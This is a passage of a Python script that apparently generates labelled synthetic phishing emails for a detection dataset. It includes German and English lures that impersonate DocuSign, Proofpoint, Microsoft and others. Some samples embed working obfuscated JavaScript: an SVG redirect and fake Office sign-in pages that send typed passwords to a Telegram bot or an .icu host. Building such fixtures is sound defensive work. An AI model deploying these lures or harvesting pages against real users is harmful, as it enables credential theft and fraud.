         "2024-01-22 07:58:03 +0100",
         vps_kit("45.145.166.23", "mail.halkroll-personal.com", "NL", dkim_d=None, dkim="none", dmarc="none",
                 compauth="softpass reason=201"),
         '"Personalabteilung Halvorsen & Kroll" <hr@halkroll-personal.com>', [addr("nowak")],
         "Mitarbeiterhandbuch 2024 – Lesebestätigung bis 26.01. erforderlich", alt(name, plain, html, "php"),
         lang="de", scl=5, cat="SPM")

    # 08 -- Yandex redirect, German purchase order from a compromised Strato mailbox
    name = "b13-phish-yandex-redirect-bestellung"
    target = "https://bestellung-sieker.onedrive-files.cfd/4500087712/"
    url = f"https://sba.yandex.net/redirect?url={urllib.parse.quote(target, safe='')}&client=znatoki&sign={h(name, 'sg', 32)}"
    plain = ("Guten Tag Frau Vogt,\n\nanbei erhalten Sie unsere Bestellung 4500087712 über Ersatzteile für die "
             "Rollenbahn (Halle 3). Die Bestelldokumente haben wir Ihnen über OneDrive freigegeben, da die "
             "Anhänge zu groß waren:\n\n"
             f"Bestellung 4500087712 öffnen: {url}\n\nBitte senden Sie uns die Auftragsbestätigung bis Freitag.\n\n"
             "Mit freundlichen Grüßen\nEinkauf\nMetallbau Sieker GmbH\n")
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:10pt"><p>Guten Tag Frau Vogt,</p><p>anbei erhalten Sie '
        "unsere Bestellung 4500087712 über Ersatzteile für die Rollenbahn (Halle 3). Die Bestelldokumente haben wir "
        "Ihnen über OneDrive freigegeben, da die Anhänge zu groß waren:</p>"
        f'<p><a href="{url}">&#128196; Bestellung_4500087712.pdf</a></p><p>Bitte senden Sie uns die '
        "Auftragsbestätigung bis Freitag.</p><p>Mit freundlichen Grüßen<br>Einkauf<br>Metallbau Sieker GmbH</p>"
        "</div>", "de")
    strato = Sender("esp", "81.169.146.218", "mo4-p00-ob.smtp.rzone.de", "DE", dkim_d="metallbau-sieker.de",
                    selector="strato-dkim-0002", host="smtp.strato.de",
                    via=[fold(f"Received: from DESKTOP-{alnum(name, 'dt', 7, True)} by smtp.strato.de (RZmta 51.3.0 AUTH) "
                              f"with ESMTPSA id {alnum(name, 'rz', 14)} (using TLSv1.3 with cipher "
                              f"TLS_AES_256_GCM_SHA384 (256 bits)) for <{P['vogt'][1]}>; "
                              f"{rfc(when('2025-06-03 13:41:54 +0200'))}")],
                    mailer="X-Mailer: Microsoft Outlook 16.0")
    emit(cat, name, "German purchase order from a compromised Strato mailbox of a metalworker: 'attachments too "
         "large, shared via OneDrive' but the link is a sba.yandex.net/redirect hop to a .cfd host named like "
         "OneDrive",
         "2025-06-03 13:41:55 +0200", strato, "Einkauf Metallbau Sieker <einkauf@metallbau-sieker.de>",
         [addr("vogt")], "Bestellung 4500087712 – Bitte Auftragsbestätigung", alt(name, plain, html, "gen"),
         lang="de")

    # 09 -- Adobe Express page from a compromised forwarder on Google Workspace
    name = "b13-phish-adobe-express-payment"
    url = "https://new.express.adobe.com/webpage/Xq3kP8tLzRw2"
    plain = ("Hello,\n\n---------- Forwarded message ---------\nFrom: Finance <finance@costaverde-logistica.es>\n"
             "Subject: Payment confirmation\n\nPlease find below the payment confirmation for the container "
             f"release BL VLC2406-118.\n\nView payment confirmation: {url}\n\nDaniel Ruiz\nCosta Verde Logística S.L.\n")
    html = ('<div dir="ltr">Hello,<br><br>---------- Forwarded message ---------<br>From: <b>Finance</b> '
            '&lt;finance@costaverde-logistica.es&gt;<br>Subject: Payment confirmation<br><br>Please find below the '
            'payment confirmation for the container release BL VLC2406-118.<br><br>'
            f'<a href="{url}" style="background:#1a73e8;color:#fff;padding:8px 16px;text-decoration:none">View '
            'payment confirmation</a><br><br>Daniel Ruiz<br>Costa Verde Logística S.L.</div>\n')
    emit(cat, name, "Forwarded 'payment confirmation' from a compromised Spanish forwarder's Google Workspace "
         "mailbox (auth passes); the document is an Adobe Express web page, a free hosting hop that carries the "
         "next link to a credential page",
         "2024-06-12 16:08:44 +0200",
         gmail_sender("209.85.220.41", "mail-sor-f41.google.com", "ES", dkim_d="costaverde-logistica.es"),
         "Daniel Ruiz <druiz@costaverde-logistica.es>", [addr("rohde")],
         "Fwd: Payment confirmation – container release BL VLC2406-118", alt(name, plain, html, "gmail"))

    # 10 -- Canva design as the proposal document
    name = "b13-phish-canva-proposal-document"
    url = (f"https://www.canva.com/design/DAGHx2kLm9Q/{alnum(name, 'cv', 22)}/view?utm_content=DAGHx2kLm9Q"
           "&utm_campaign=designshare&utm_medium=link&utm_source=editor")
    body = paras("Hello Tobias,\n\nPlease find our proposal document for your review. Kindly click on the link "
                 "below to view it.") + (f'<p class="MsoNormal"><a href="{url}">NORTHGATE ENGINEERING LTD - PROPOSAL '
                                         'DOCUMENT</a><o:p></o:p></p>') + paras(
        "\nKind regards,") + signature_block(["Emma Clarke", "Business Development", "Northgate Engineering Ltd"])
    plain = (f"Hello Tobias,\n\nPlease find our proposal document for your review. Kindly click on the link below to "
             f"view it.\n\nNORTHGATE ENGINEERING LTD - PROPOSAL DOCUMENT\n{url}\n\nKind regards,\nEmma Clarke\n"
             "Business Development\nNorthgate Engineering Ltd\n")
    emit(cat, name, "Unsolicited 'proposal document' from a compromised UK engineering mailbox (auth passes) "
         "hosted as a Canva design view, the 2024 pattern where the Canva page shows a 'View document' button to "
         "a Microsoft-login clone",
         "2024-07-30 10:17:26 +0100", m365_tenant_sender("40.107.22.88", "GBR01", "GB"),
         "Emma Clarke <emma.clarke@northgate-engineering.co.uk>", [addr("brandt")],
         "NORTHGATE ENGINEERING LTD - Proposal Document", outlook_alt(name, plain, body))

    # 11 -- Figma prototype from a compromised real supplier
    name = "b13-phish-figma-supplier-compromised"
    url = (f"https://www.figma.com/proto/kT9Lp2wQxR3mN8vB/Calder-Bearings-Docs?node-id=1-2&t={alnum(name, 'ft', 16)}-1"
           "&scaling=min-zoom&page-id=0%3A1")
    body = paras("Dear Tobias,\n\nFollowing our call, we have uploaded the updated statement of account and the "
                 "2025 price list to our secure document area. Please use the link below to view both documents "
                 "and confirm the new prices by return.") + (
        f'<p class="MsoNormal"><a href="{url}"><b>View Documents (2)</b></a><o:p></o:p></p>') + paras(
        "\nMany thanks,") + signature_block(["Helen Marsh", "Sales Ledger", "Calder Bearings Ltd",
                                             "Calder Works, Brighouse HD6 1QF", "+44 1484 712 330"])
    plain = (f"Dear Tobias,\n\nFollowing our call, we have uploaded the updated statement of account and the 2025 "
             f"price list to our secure document area. Please use the link below to view both documents and confirm "
             f"the new prices by return.\n\nView Documents (2): {url}\n\nMany thanks,\nHelen Marsh\nSales Ledger\n"
             "Calder Bearings Ltd\n")
    emit(cat, name, "Compromised mailbox of a real supplier (auth passes, known sender) 'shares documents' that "
         "live in a Figma prototype, a design tool no supplier uses for statements: the Figma page fronts a "
         "Microsoft 365 credential page",
         "2025-03-18 09:12:03 +0000", m365_tenant_sender("52.101.73.106", "GBR01", "GB"),
         "Helen Marsh <h.marsh@calderbearings.co.uk>", [addr("brandt")],
         "Calder Bearings Ltd – Updated Statement & Price List 2025", outlook_alt(name, plain, body),
         cc=[addr("demir")])

    # 12 -- Notion page for a "mailbox migration"
    name = "b13-phish-notion-mailbox-migration"
    url = f"https://halkroll-it.notion.site/Postfach-Migration-2025-{h(name, 'nt', 32)}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;max-width:560px">'
        '<p style="font-size:18px;color:#c50f1f"><b>[Aktion erforderlich] Postfachmigration</b></p>'
        "<p>Hallo Frank Wessel,</p><p>im Zuge der Umstellung auf die neue Exchange-Online-Umgebung wird Ihr Postfach "
        "<b>f.wessel@halkroll.de</b> am 17.01.2025 migriert. Damit Ihre E-Mails, Kontakte und Kalender übernommen "
        "werden, müssen Sie die Migration einmalig mit Ihren aktuellen Anmeldedaten bestätigen.</p>"
        f"{button(url, 'Migration jetzt bestätigen')}"
        "<p>Postfächer ohne Bestätigung werden nach dem 17.01. deaktiviert.</p>"
        "<p>Ihr IT Service Desk</p></div>", "de")
    plain = ("[Aktion erforderlich] Postfachmigration\n\nHallo Frank Wessel,\n\nim Zuge der Umstellung auf die neue "
             "Exchange-Online-Umgebung wird Ihr Postfach f.wessel@halkroll.de am 17.01.2025 migriert. Bitte bestätigen "
             f"Sie die Migration einmalig mit Ihren aktuellen Anmeldedaten:\n{url}\n\nPostfächer ohne Bestätigung "
             "werden nach dem 17.01. deaktiviert.\n\nIhr IT Service Desk\n")
    pe = Sender("esp", "198.54.122.47", "mta-07.privateemail.com", "US", dkim_d="halkroll-support.com",
                selector="default", dmarc="bestguesspass", compauth="pass reason=109", host="privateemail.com",
                via=[fold(f"Received: from APP-03 (unknown [10.20.151.{num(name, 'pe', 10, 99)}]) by "
                          f"mta-07.privateemail.com (Postfix) with ESMTPA id 4Y{alnum(name, 'pq', 10, True)}; "
                          f"{rfc(when('2025-01-14 02:03:09 -0500'))}")])
    emit(cat, name, "IT 'mailbox migration' notice with a deactivation deadline sent from halkroll-support.com "
         "(registered on Namecheap, not the company's domain) asking to confirm with current credentials on a "
         "notion.site page, a free hosting hop to the login clone",
         "2025-01-14 08:03:10 +0100", pe, "IT Service Desk <it-servicedesk@halkroll-support.com>", [addr("wessel")],
         "[Aktion erforderlich] Postfachmigration auf Exchange Online bis 17.01.", alt(name, plain, html, "gen"),
         lang="de")

    # 13 -- Webflow-hosted "keep current password"
    name = "b13-phish-webflow-password-expiry"
    rcpt = P["korte"][1]
    url = f"https://halkroll-de-sso.webflow.io/?login={rcpt}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;max-width:560px;border:1px solid #ddd;'
        'padding:24px"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" '
        f'alt="Microsoft" width="108"><p style="font-size:20px">Password Expiry Notice</p><p>The password for '
        f'<b>{rcpt}</b> expires today, <b>05/03/2024</b>.</p><p>You can keep your current password or change it. '
        'If no action is taken, you will be signed out of Outlook, Teams and OneDrive.</p>'
        f'{button(url, "Keep Current Password")}<p style="font-size:12px;color:#666">Microsoft 365 Administrator'
        '<br>This is a system generated message. Do not reply.</p></div>')
    plain = (f"Password Expiry Notice\n\nThe password for {rcpt} expires today, 05/03/2024.\nYou can keep your current "
             f"password or change it:\n\nKeep Current Password: {url}\n\nMicrosoft 365 Administrator\n")
    emit(cat, name, "'Password expires today, keep current password' notice from mx-notice-center.com via "
         "PHPMailer on a rented server; the button leads to a webflow.io site named after the company, a "
         "credential-harvesting page on free hosting",
         "2024-03-05 06:44:31 +0000",
         vps_kit("91.92.243.150", "mail.mx-notice-center.com", "BG", dkim_d="mx-notice-center.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Microsoft 365 Administrator <admin@mx-notice-center.com>", [addr("korte")],
         f"Password Expiry Notice for {rcpt}", alt(name, plain, html, "php"), scl=5, cat="SPM")

    # 14 -- Framer site for a "salary adjustment"
    name = "b13-phish-framer-gehaltsanpassung"
    url = "https://entgelt-halkroll-2025.framer.website/"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:14px;max-width:560px">'
        "<p>Hallo Kai Lüttmann,</p><p>zum 01.02.2025 tritt die jährliche Gehaltsanpassung in Kraft. Ihre "
        "individuelle Entgeltmitteilung 2025 steht im Mitarbeiterportal zur Bestätigung bereit. Bitte prüfen und "
        "bestätigen Sie die Angaben bis <b>Freitag, 31.01.2025</b>, damit die Anpassung mit der Februar-"
        "Abrechnung wirksam wird.</p>"
        f"{button(url, 'Entgeltmitteilung 2025 ansehen', '#2b579a')}"
        "<p>Freundliche Grüße<br>Lohnbuchhaltung</p></div>", "de")
    plain = ("Hallo Kai Lüttmann,\n\nzum 01.02.2025 tritt die jährliche Gehaltsanpassung in Kraft. Ihre individuelle "
             "Entgeltmitteilung 2025 steht im Mitarbeiterportal zur Bestätigung bereit. Bitte bestätigen Sie bis "
             f"Freitag, 31.01.2025:\n{url}\n\nFreundliche Grüße\nLohnbuchhaltung\n")
    emit(cat, name, "German salary-adjustment lure from halkroll-entgelt.de (a lookalike of the company, sent "
         "through SendGrid) pointing to a framer.website page, free site-builder hosting for the login clone",
         "2025-01-28 15:20:47 +0100",
         sendgrid("149.72.158.201", dkim_d="halkroll-entgelt.de", dmarc="pass"),
         "Lohnbuchhaltung <lohn@halkroll-entgelt.de>", [addr("luettmann")],
         "Gehaltsanpassung 2025 – Bitte bestätigen Sie Ihre Entgeltmitteilung", alt(name, plain, html, "sendgrid"),
         lang="de")

    # 15 -- SVG attachment with embedded JavaScript redirect
    name = "b13-phish-svg-js-ach-remittance"
    rcpt = P["wiechers"][1]
    dest = "https://ach-remit.dqkvz.sbs/r/?d="
    script = (f'var _e = "{rcpt}";\n'
              f'var _p = ["{b64(dest)[:20]}", "{b64(dest)[20:]}"];\n'
              'var _u = atob(_p.join(""));\n'
              'window.location.href = _u + btoa(_e);')
    svg = svg_wrap(script, "ACH Remittance")
    plain = ("Hello,\n\nAttached is the ACH remittance advice for the payment released to Halvorsen & Kroll today. "
             "Please open the attachment in your browser to view the payment breakdown.\n\nThank you,\n"
             "Accounts Payable\nMidwest Pallet & Crating Co.\n")
    html = ('<div dir="ltr">Hello,<br><br>Attached is the ACH remittance advice for the payment released to '
            'Halvorsen &amp; Kroll today. Please open the attachment in your browser to view the payment breakdown.'
            '<br><br>Thank you,<br>Accounts Payable<br>Midwest Pallet &amp; Crating Co.</div>\n')
    body = mixed(name, [alt(name, plain, html, "gmail"),
                        attachment("image/svg+xml", "ACH_Remittance_HK_1002.svg", svg)], "gmail")
    emit(cat, name, "ACH remittance with an .svg attachment whose embedded script joins base64 fragments into "
         "a .sbs URL and redirects the browser there with the recipient's address appended; SVG image files "
         "do not need JavaScript",
         "2024-10-02 09:37:18 -0500",
         gmail_sender("209.85.166.180", "mail-il1-f180.google.com", "US", dkim_d="midwestpallet.com"),
         "Accounts Payable <ap@midwestpallet.com>", [addr("wiechers")],
         "ACH Remittance Advice - Halvorsen & Kroll - 10/02/2024", body)

    # 16 -- HTML attachment: fake Excel Online viewer written with document.write(atob(...))
    name = "b13-phish-html-atob-excel-viewer"
    rcpt = P["ap"][1]
    inner = (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Excel Online</title><style>'
        'body{margin:0;font-family:Segoe UI,Arial;background:url(https://i.ibb.co/7Qm0sKc/xls-blur.png) center/cover}'
        '.box{width:360px;margin:120px auto;background:#fff;padding:28px;box-shadow:0 2px 8px #0004}'
        'input{width:100%;padding:8px;margin:8px 0;border:1px solid #999}button{background:#107c41;color:#fff;'
        'border:0;padding:9px 24px}</style></head><body><div class="box">'
        '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/brand-icons/product/svg/excel_48x1.svg" width="40">'
        '<h3>Payment_Schedule_Q3_2023.xlsx</h3><p>This file is protected. Sign in with your work account to view.</p>'
        f'<form id="f"><input id="e" type="email" value="{rcpt}" readonly><input id="p" type="password" '
        'placeholder="Password"><button type="submit">View Document</button></form><p id="m" style="color:#a4262c">'
        '</p></div><script>'
        'var t="6412873301:AAHk3v_Qm9pXrT2w8LcYzN4bJd0sFe7uG1o",c="-1002118834567",n=0;'
        'document.getElementById("f").onsubmit=function(x){x.preventDefault();'
        'var d="Excel| "+document.getElementById("e").value+" | "+document.getElementById("p").value;'
        'fetch("https://api.telegram.org/bot"+t+"/sendMessage?chat_id="+c+"&text="+encodeURIComponent(d));'
        'n++;if(n<2){document.getElementById("m").innerText="Your password is incorrect. Try again.";}'
        'else{location.href="https://www.office.com";}};</script></body></html>')
    page = ('<html><head><meta charset="utf-8"><title>Payment Schedule</title></head><body>\n<script>\n'
            f'document.write(atob("{b64(inner)}"));\n</script>\n</body></html>\n').encode()
    plain = ("Dear Sir/Madam,\n\nPlease find attached the payment schedule for Q3 2023 (Zahlungsavis). Kindly "
             "review and confirm receipt.\n\nBest regards\nFinance Department\n")
    html = html_page("<p>Dear Sir/Madam,</p><p>Please find attached the payment schedule for Q3 2023 "
                     "(Zahlungsavis). Kindly review and confirm receipt.</p><p>Best regards<br>Finance Department</p>")
    body = mixed(name, [alt(name, plain, html, "php"),
                        attachment("text/html", "Payment_Schedule_Q3_2023.xlsx.html", page)], "php")
    emit(cat, name, "Payment-schedule lure from a throwaway .click domain with an .xlsx.html attachment: "
         "document.write(atob(...)) renders a fake Excel Online sign-in with the AP address prefilled and sends "
         "typed passwords to a Telegram bot",
         "2023-11-07 07:12:40 +0100",
         vps_kit("185.225.74.19", "srv1.remit-advice.click", "NL", dkim_d=None, dkim="none", dmarc="none",
                 compauth="fail reason=001"),
         "Finance Department <finance@remit-advice.click>", [addr("ap")],
         "Zahlungsavis / Payment Advice – Q3 schedule", body, scl=6, cat="SPM")

    # 17 -- HTML attachment: fake Word viewer assembled with String.fromCharCode and decodeURIComponent
    name = "b13-phish-html-charcode-word-viewer"
    rcpt = P["kroll"][1]
    post = "https://kessler-docs.sharefile-secure.icu/next.php"
    inner = (
        '<div style="font-family:Segoe UI,Arial;max-width:420px;margin:90px auto;padding:26px;border:1px solid #ccc">'
        '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/brand-icons/product/svg/word_48x1.svg" width="40">'
        '<h3>Nachtrag_Rahmenvertrag_HK_2025.docx</h3><p>Zur Anzeige des geschützten Dokuments bestätigen Sie bitte '
        f'Ihr Kennwort.</p><form method="POST" action="__A__"><input name="login" value="{rcpt}" readonly '
        'style="width:100%;padding:7px"><br><br><input name="passwd" type="password" placeholder="Kennwort" '
        'style="width:100%;padding:7px"><br><br><button style="background:#2b579a;color:#fff;border:0;padding:8px 22px">'
        'Dokument öffnen</button></form></div>')
    codes = ",".join(str(ord(c)) for c in inner.replace("__A__", "'+_a+'"))
    page = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Word Online</title></head><body>\n<script>\n'
            f'var _a = decodeURIComponent("{urllib.parse.quote(post, safe="")}");\n'
            f'var _c = [{codes}];\n'
            'var _s = ""; for (var i = 0; i < _c.length; i++) { _s += String.fromCharCode(_c[i]); }\n'
            "document.write(eval(\"'\" + _s + \"'\"));\n</script>\n</body></html>\n").encode()
    plain = ("Sehr geehrter Herr Dr. Kroll,\n\nim Auftrag unserer Mandantin übersenden wir Ihnen den Nachtrag zum "
             "Rahmenvertrag mit der Bitte um Prüfung und Freigabe bis Ende der Woche. Das Dokument ist aus "
             "Vertraulichkeitsgründen geschützt.\n\nMit freundlichen Grüßen\n\nDr. Jörg Kessler\nRechtsanwalt\n"
             "Kessler Rechtsanwälte, Detmold\n")
    html = html_page("<p>Sehr geehrter Herr Dr. Kroll,</p><p>im Auftrag unserer Mandantin übersenden wir Ihnen den "
                     "Nachtrag zum Rahmenvertrag mit der Bitte um Prüfung und Freigabe bis Ende der Woche. Das "
                     "Dokument ist aus Vertraulichkeitsgründen geschützt.</p><p>Mit freundlichen Grüßen</p>"
                     "<p>Dr. Jörg Kessler<br>Rechtsanwalt<br>Kessler Rechtsanwälte, Detmold</p>", "de")
    body = mixed(name, [alt(name, plain, html, "gen"),
                        attachment("text/html", "Nachtrag_Rahmenvertrag_HK_2025.htm", page)], "gen")
    emit(cat, name, "German contract-amendment lure to the CEO from a compromised law-firm mailbox; the .htm "
         "attachment rebuilds a fake Word Online password prompt from String.fromCharCode codes and posts the "
         "password to an .icu host hidden in decodeURIComponent",
         "2025-05-20 11:46:02 +0200",
         Sender("postfix", "178.254.11.46", "mail.kessler-rechtsanwaelte.de", "DE", dkim_d="kessler-rechtsanwaelte.de",
                selector="mail", client="p5b0c4d2e.dip0.t-ipconnect.de", client_ip="91.12.77.46",
                mailer="User-Agent: Mozilla Thunderbird"),
         '"Dr. Jörg Kessler" <kanzlei@kessler-rechtsanwaelte.de>', [addr("kroll")],
         "Nachtrag zum Rahmenvertrag – Bitte um Prüfung und Freigabe", body, lang="de")

    # 18 -- Microsoft Purview Message Encryption lookalike from a compromised forwarder
    name = "b13-phish-purview-encrypted-lookalike"
    rcpt = P["rohde"][1]
    url = (f"https://nordwind-spedition.outlook-encrypted-msg.icu/Encryption/retrieve.ashx?recipientemailaddress="
           f"{urllib.parse.quote(rcpt)}&senderemailaddress=s.fischer%40nordwind-spedition.de&messageid={h(name, 'mid', 32)}")
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:600px">'
        '<div style="background:#f3f2f1;padding:16px 24px"><img src="https://outlook.office365.com/Encryption/images/'
        'default_logo.png" height="28" alt="Microsoft"></div><div style="padding:24px">'
        '<p style="font-size:20px">Stefanie Fischer (s.fischer@nordwind-spedition.de) has sent you a protected '
        'message.</p>'
        f'{button(url, "Read the message")}'
        '<p style="font-size:12px;color:#605e5c;margin-top:28px"><a href="https://go.microsoft.com/fwlink/'
        '?LinkId=809814">Learn about messages protected by Microsoft Purview Message Encryption</a>.<br>'
        '<a href="https://privacy.microsoft.com/privacystatement">Privacy Statement</a><br>Email encryption powered '
        'by Microsoft 365. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></div></div>')
    plain = (f"Stefanie Fischer (s.fischer@nordwind-spedition.de) has sent you a protected message.\n\nRead the message: "
             f"{url}\n\nLearn about messages protected by Microsoft Purview Message Encryption.\n")
    emit(cat, name, "Microsoft Purview Message Encryption lookalike from a compromised forwarder mailbox (auth "
         "passes): the real wrapper links to outlook.office365.com/Encryption, this one copies the path onto an "
         ".icu host and pre-fills the recipient",
         "2024-05-15 14:30:55 +0200", m365_tenant_sender("52.101.69.140", "DEU01", "DE"),
         "Stefanie Fischer <s.fischer@nordwind-spedition.de>", [addr("rohde")],
         "Encrypted: Nordwind Spedition – Frachtkostenabrechnung Mai", alt(name, plain, html, "outlook"))

    # 19 -- Proofpoint Encryption lookalike
    name = "b13-phish-proofpoint-securemail-lookalike"
    url = (f"https://securemail-harborline.proofpoint-reader.com/formpostdir/securereader?id={h(name, 'pp', 40)}"
           f"&brand={h(name, 'br', 8)}")
    html = html_page(
        '<table width="600" style="font-family:Arial,sans-serif;font-size:13px;border:1px solid #ccc">'
        '<tr><td style="background:#1d2a3a;color:#fff;padding:12px 18px;font-size:16px">Proofpoint Encryption</td></tr>'
        '<tr><td style="padding:20px 18px"><p>You have received a secure message from '
        '<b>payables@harborline-freight.com</b>.</p><p>Subject: Remittance details &ndash; Harborline Freight</p>'
        f'<p><a href="{url}">Click here</a> to read your secure message. You will be asked to sign in with your '
        'email account.</p><p style="color:#666;font-size:11px">The secure message expires on Sep 19, 2023 @ 02:51 PM '
        '(GMT). Do not reply to this notification message; this message was auto-generated by the sender\'s '
        'security system.</p></td></tr></table>')
    plain = ("You have received a secure message from payables@harborline-freight.com.\n\nSubject: Remittance details "
             f"- Harborline Freight\n\nClick here to read your secure message: {url}\n")
    emit(cat, name, "Proofpoint Encryption lookalike from a US freight company's Google Workspace mailbox; the "
         "'secure reader' is on proofpoint-reader.com, not the sender's securemail host, and asks for the "
         "recipient's email password",
         "2023-09-12 10:51:09 -0400",
         gmail_sender("209.85.210.173", "mail-pf1-f173.google.com", "US", dkim_d="harborline-freight.com"),
         '"Harborline Freight Payables" <payables@harborline-freight.com>', [addr("halvorsen")],
         "[SECURE] Remittance details – Harborline Freight", alt(name, plain, html, "gmail"))

    # 20 -- Virtru lookalike
    name = "b13-phish-virtru-secure-message-lookalike"
    rcpt = P["brandt"][1]
    url = f"https://secure.virtru-read.com/start/?htmlProtocol&v=1#{b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Helvetica,Arial,sans-serif;max-width:560px;border:1px solid #e0e0e0">'
        '<div style="padding:18px 24px;border-bottom:3px solid #1e88e5"><b>Jake Morrison</b> sent you a secure '
        'message</div><div style="padding:24px"><p>Subject: <b>Purchase order revision &ndash; Summit Industrial '
        'Supply</b></p><p>This message was secured with Virtru. Verify your identity to unlock it.</p>'
        f'{button(url, "Unlock Message", "#1e88e5")}<p style="font-size:11px;color:#888;margin-top:24px">Secured by '
        'Virtru &middot; Data protection for email and files</p></div></div>')
    plain = (f"Jake Morrison sent you a secure message\n\nSubject: Purchase order revision - Summit Industrial Supply\n\n"
             f"Unlock Message: {url}\n\nSecured by Virtru\n")
    emit(cat, name, "Virtru secure-message lookalike from a compromised US supplier tenant (auth passes); Unlock "
         "Message goes to virtru-read.com, not secure.virtru.com, with the recipient's address base64 in the "
         "fragment for the AiTM page",
         "2024-02-20 11:05:33 -0600", m365_tenant_sender("40.107.94.61", "NAM12", "US"),
         "Jake Morrison <jmorrison@summit-industrial-supply.com>", [addr("brandt")],
         "Jake Morrison sent you a secure message", alt(name, plain, html, "outlook"))

    # 21 -- Paubox lookalike
    name = "b13-phish-paubox-benefits-lookalike"
    rcpt = P["schomaker"][1]
    url = f"https://paubox-securemail.net/view?msg={h(name, 'msg', 24)}&r={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:560px;margin:auto;border:1px solid #ddd;padding:24px">'
        '<p style="color:#2d8cff;font-size:22px;margin:0">paubox</p><p style="font-size:18px">You have a new '
        'secure message</p><p>From: <b>Benefits Administration</b><br>Subject: Benefits Statement 2025 &ndash; '
        'Halvorsen &amp; Kroll UK employees</p>'
        f'{button(url, "View Secure Message", "#2d8cff")}<p style="font-size:11px;color:#777">This message was sent '
        'securely using Paubox. HIPAA compliant email encryption.</p></div>')
    plain = (f"You have a new secure message\n\nFrom: Benefits Administration\nSubject: Benefits Statement 2025 - "
             f"Halvorsen & Kroll UK employees\n\nView Secure Message: {url}\n")
    mailgun = Sender("esp", "159.135.228.17", "m228-17.mailgun.net", "US", dkim_d="paubox-mail.net",
                     selector="k1", host="mailgun.net", dmarc="pass",
                     esp_headers=[f"X-Mailgun-Sid: {b64s(name, 'mg', 40)}", "X-Mailgun-Sending-Ip: 159.135.228.17"])
    emit(cat, name, "Paubox encrypted-mail lookalike sent through Mailgun from paubox-mail.net (Paubox's domain "
         "is paubox.com) about a 'benefits statement', with the HR manager's address base64 in the view link",
         "2025-04-08 09:02:10 -0400", mailgun, "Paubox Secure Mail <secure@paubox-mail.net>", [addr("schomaker")],
         "You have a new secure message: Benefits Statement 2025", alt(name, plain, html, "gen"),
         scl=5, cat="SPM")

    # 22 -- DocuSign lookalike from a compromised domain
    name = "b13-phish-docusign-lookalike-agreement"
    rcpt = P["grant"][1]
    url = f"https://docusign.agreement-review.lat/Signing/EmailStart.aspx?a={guid(name, 'a')}#{b64(rcpt)}"
    html = html_page(
        '<table width="640" align="center" style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea">'
        '<tr><td style="padding:24px"><table width="100%" style="background:#1e4ca1;color:#fff"><tr><td '
        'style="padding:28px;text-align:center"><p style="font-size:16px">Oliver Grant, you received a document '
        'to review and sign.</p>'
        f'<a href="{url}" style="background:#ffc820;color:#333;padding:10px 22px;text-decoration:none;font-weight:bold">'
        'REVIEW DOCUMENT</a></td></tr></table><table width="100%" style="background:#fff"><tr><td style="padding:24px;'
        'font-size:14px">Please review and sign <b>Halkroll_Service_Agreement_2024.pdf</b>.<br><br>Thank You,<br>'
        'Contracts Team</td></tr></table><p style="font-size:11px;color:#666">Do Not Share This Email<br>This email '
        'contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>'
        '</td></tr></table>')
    plain = (f"Oliver Grant, you received a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nPlease review "
             "and sign Halkroll_Service_Agreement_2024.pdf.\n")
    emit(cat, name, "DocuSign envelope lookalike sent from a compromised marine firm's cPanel server, not "
         "docusign.net; REVIEW DOCUMENT goes to a .lat host that copies DocuSign's EmailStart path and carries "
         "the recipient's address, with no envelope security code",
         "2024-08-21 17:40:12 +0000",
         vps_kit("162.241.218.77", "box5120.bluehost.com", "US", dkim_d="kaelinmarine.com", mailer=""),
         '"DocuSign Signature Service" <notice@kaelinmarine.com>', [addr("grant")],
         "Complete with DocuSign: Halkroll_Service_Agreement_2024.pdf", alt(name, plain, html, "php"))

    # 23 -- Adobe Acrobat Sign lookalike naming the CFO
    name = "b13-phish-adobe-sign-bonus-lookalike"
    rcpt = P["wessel"][1]
    url = f"https://adobesign-docs.online/public/esignWidget?wid={alnum(name, 'wid', 28)}*&hosted=false&email={rcpt}"
    html = html_page(
        '<div style="font-family:Adobe Clean,Arial,sans-serif;max-width:580px;margin:auto;background:#fff;'
        'border:1px solid #e1e1e1"><div style="padding:20px;border-bottom:1px solid #eee"><b style="color:#eb1000">'
        'Adobe Acrobat Sign</b></div><div style="padding:28px"><p style="font-size:18px">Sabine Halvorsen has sent '
        'you <b>Q1 Bonus Allocation 2025.pdf</b> for signature</p><p>Please review and sign. Your bonus will be '
        'paid with the March payroll once signed.</p>'
        f'{button(url, "Review and sign", "#1473e6")}<p style="font-size:11px;color:#888;margin-top:24px">To ensure '
        'that you continue receiving our emails, please add echosign@adobesign-docs.online to your address book.'
        '</p></div></div>')
    plain = (f"Sabine Halvorsen has sent you Q1 Bonus Allocation 2025.pdf for signature.\n\nReview and sign: {url}\n")
    emit(cat, name, "Adobe Acrobat Sign lookalike naming the CFO as sender of a bonus document, sent through "
         "SendGrid from adobesign-docs.online (Acrobat Sign mails from adobesign.com); the sign link stays on the "
         "lookalike domain",
         "2025-03-03 08:11:00 +0100", sendgrid("167.89.54.113", dkim_d="adobesign-docs.online", dmarc="pass"),
         "Adobe Acrobat Sign <echosign@adobesign-docs.online>", [addr("wessel")],
         "Sabine Halvorsen has sent you Q1 Bonus Allocation 2025.pdf for signature", alt(name, plain, html, "sendgrid"))

    # 24 -- Dropbox Sign lookalike from a compromised German customer (IONOS)
    name = "b13-phish-dropbox-sign-lieferantenvereinbarung"
    url = f"https://dropbox-sign.app-doc.sbs/s/{alnum(name, 's', 20)}?lang=de"
